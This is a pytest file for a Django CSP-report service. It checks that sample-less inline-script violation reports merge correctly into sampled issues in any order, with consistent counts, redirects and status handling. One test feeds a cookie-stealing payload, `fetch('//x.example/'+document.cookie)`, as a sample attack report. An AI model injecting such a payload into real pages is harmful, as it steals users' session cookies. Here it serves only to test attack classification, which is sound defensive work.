"""Reports without a sample join the one issue of sampled code on their spot, in whatever order they come, and no count is lost."""

from __future__ import annotations

import itertools
from typing import Any

import pytest
from django.db.models import Sum
from django.urls import reverse

from ingest.normalise import normalise
from ingest.wire import read
from issues import spots
from issues.joining import settle
from issues.models import Activity, DailyCount, Evidence, EvidenceDay, HourlyCount, Issue, Spot
from issues.record import Sighting, record
from policies.address import parse_address
from projects.models import Project, User
from tests.issues.test_record import NOON, sightings, violation
from tests.recorded import BROWSERS, recorded

pytestmark = pytest.mark.django_db

ASKS = "script-src 'self' 'report-sample'; report-uri /csp"


def inline(sample: str = "", page: str = "/de/checkout", **changes: Any) -> Any:
    """As Chrome sends it; without a sample as Safari does over report-uri: no disposition, no source, no line."""
    known = {"source": parse_address(f"https://shop.example{page}"), "line": 14} if sample else {"disposition": ""}
    return violation(page=page, blocked=parse_address("inline"), blocked_kind="inline", sample=sample, policy=ASKS, **{**known, **changes})


START, TRACK = "startShop(document.body)", "trackVisit(window.name)"


def feed(project: Project, *steps: Any) -> None:
    for place, step in enumerate(steps):
        record(sightings(project, step, times=place + 1, at=NOON + place * 60_000))
        settle()


def state() -> dict[str, tuple[int, int]]:
    """Reports and pages by key in words; every table has to add up to the same."""
    for table in (Evidence, HourlyCount, DailyCount):
        sums = dict(table.objects.values_list("issue__grouped_by").annotate(all=Sum("reports")).filter(all__gt=0))
        assert sums == dict(Issue.objects.values_list("grouped_by", "reports")), table.__name__
    assert EvidenceDay.objects.aggregate(all=Sum("reports")) == Issue.objects.aggregate(all=Sum("reports"))
    return {issue.grouped_by: (issue.reports, issue.pages) for issue in Issue.objects.all()}


@pytest.mark.parametrize("order", list(itertools.permutations(range(3))))
def test_alone_on_its_spot_an_issue_takes_them_in_any_order(shop: Project, order: tuple[int, ...]) -> None:
    """Also from the same page under another language's prefix; what stands on another page keeps its own issue."""
    steps = [inline(START), inline(page="/en/checkout"), inline(page="/cart")]
    for place in order:
        record(sightings(shop, steps[place], times=place + 1))
        settle()
    assert state() == {
        "inline script, “startShop(document.body)”, on pages of shop": (3, 2),
        "inline script, no sample, on pages of shop": (3, 1),
    }


@pytest.mark.parametrize("order", list(itertools.permutations(range(3))))
def test_beside_a_second_script_nobody_can_tell_and_they_stay_apart(shop: Project, order: tuple[int, ...]) -> None:
    steps = [inline(START), inline(TRACK), inline()]
    for place in order:
        record(sightings(shop, steps[place], times=place + 1))
        settle()
    assert {words: reports for words, (reports, _) in state().items()} == {
        "inline script, “startShop(document.body)”, on pages of shop": 1,
        "inline script, “trackVisit(window.name)”, on pages of shop": 2,
        "inline script, no sample, on pages of shop": 3,
    }


def test_in_one_batch_too(shop: Project) -> None:
    record([*sightings(shop, inline(), 2), *sightings(shop, inline(START), 3)])
    assert list(Issue.objects.values_list("reports", "title")) == [(5, "Inline script")]
    assert Issue.objects.get().grouped_by == "inline script, “startShop(document.body)”, on pages of shop"


def test_the_history_says_so_and_the_old_address_leads_on(shop: Project, member: User, member_client: Any) -> None:
    feed(shop, inline(), inline(START))
    issue = Issue.objects.get()
    assert issue.number == 2
    assert "browsers that send no sample" in Activity.objects.get(issue=issue, kind="merge").words
    gone = member_client.get(reverse("issues:detail", args=[shop.organization.slug, shop.slug, 1]))
    assert (gone.status_code, gone.headers["Location"]) == (301, issue.get_absolute_url())


def test_noise_attacks_and_reports_that_could_have_had_a_sample_join_nothing(shop: Project) -> None:
    probe = inline("fetch('//x.example/'+document.cookie)")
    feed(shop, probe, inline(), inline(disposition="report"))
    issues = {issue.verdict: issue.reports for issue in Issue.objects.all()}
    assert issues == {"attack": 1, "own": 5}
    assert not Spot.objects.exists()


def test_an_issue_that_somebody_calls_noise_takes_no_more(shop: Project) -> None:
    feed(shop, inline(START))
    Issue.objects.update(verdict="extension", noise=True, corrected=True)
    feed(shop, inline())
    assert sorted(Issue.objects.values_list("noise", "reports")) == [(False, 1), (True, 1)]


def test_what_a_person_has_settled_stays_where_it_is(shop: Project) -> None:
    feed(shop, inline())
    Issue.objects.update(status="ignored")
    feed(shop, inline(START), inline())
    assert sorted(Issue.objects.values_list("status", "reports")) == [("ignored", 1), ("open", 3)]


def test_spots_are_bounded_and_a_second_issue_on_a_known_one_still_counts(shop: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(spots, "MOST_SPOTS", 1)
    feed(shop, inline(START), inline(TRACK, page="/cart"), inline(TRACK))
    assert sorted(Spot.objects.values_list("issue__grouped_by", flat=True)) == [
        "inline script, “startShop(document.body)”, on pages of shop",
        "inline script, “trackVisit(window.name)”, on pages of shop",
    ]


def issues_by_page(project: Project, browsers: tuple[str, ...]) -> dict[str, dict[int, set[str]]]:
    """page -> issue -> browsers, of the recordings fed into one project in this order; the issue is where its evidence is in the end."""
    for browser in browsers:
        for request in recorded(browser):
            if request.method == "POST":
                agent = {name.lower(): value for name, value in request.headers}.get("user-agent", "")
                found = [normalise(report, user_agent=agent) for report in read(request.body).reports]
                record([Sighting(project.id, one, b"{}", NOON) for one in found])
    settle()
    pages: dict[str, dict[int, set[str]]] = {}
    for page, issue in Evidence.objects.exclude(digest="other").values_list("page", "issue_id"):
        _host, *folders = page.split("/")
        if len(folders) == 4:  # /p/<browser>-matrix/<mode>/<page>
            pages.setdefault(folders[3], {}).setdefault(issue, set()).add(folders[1].partition("-")[0])
    return pages


# Kinds of violation that one of the browsers never sent (README of the recordings): the extension ran in two, and only Firefox told of
# its style; WebKit upgrades http images and reports none. What they do send is one issue for each kind here too.
LESS_SENT = {"extension-target", "http-subresource"}


@pytest.mark.parametrize("browsers", [BROWSERS, BROWSERS[::-1]])
def test_the_browsers_recordings_of_one_page_give_one_issue_for_each_kind(shop: Project, settings: Any, browsers: tuple[str, ...]) -> None:
    settings.NEW_ISSUES_PER_HOUR = 0
    pages = issues_by_page(shop, browsers)
    assert len(pages) >= 40
    lone = {page for page, issues in pages.items() if len({frozenset(seen) for seen in issues.values()}) > 1}
    assert lone == LESS_SENT
    assert all(len(pages[page]) == 1 for page in ("sample-long", "sample-short", "tt-policy", "tt-sink", "eval", "script-inline"))
